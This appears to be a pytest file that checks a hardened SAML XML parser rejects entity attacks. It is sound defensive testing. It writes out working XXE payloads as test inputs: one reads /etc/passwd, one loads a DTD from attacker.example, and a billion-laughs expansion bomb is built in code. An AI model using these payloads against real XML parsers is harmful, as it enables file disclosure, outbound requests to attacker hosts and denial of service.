"""The hardened parser (saml.xml) refuses entity attacks before anything reaches xmlsec."""

from __future__ import annotations

import pytest

from saml.errors import XmlSecurityError
from saml.xml import parse_xml


def test_xxe_external_entity() -> None:
    doc = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    with pytest.raises(XmlSecurityError):
        parse_xml(doc)


def test_xxe_parameter_entity() -> None:
    doc = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><r/>'
    with pytest.raises(XmlSecurityError):
        parse_xml(doc)


def test_billion_laughs() -> None:
    lol = b"".join(
        b'<!ENTITY l%d "&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;">' % (i, *([i - 1] * 10))
        for i in range(1, 10)
    )
    doc = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">' + lol + b"]><r>&l9;</r>"
    with pytest.raises(XmlSecurityError):
        parse_xml(doc)


def test_doctype_late_in_document() -> None:
    doc = b"<r>" + b" " * 5000 + b"</r>"
    assert parse_xml(doc).tag == "r"
    with pytest.raises(XmlSecurityError):
        parse_xml(b"<?xml version='1.0'?>" + b"\n" * 5000 + b'<!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>')


def test_undeclared_entity_reference() -> None:
    with pytest.raises(XmlSecurityError):
        parse_xml(b"<r>&x;</r>")
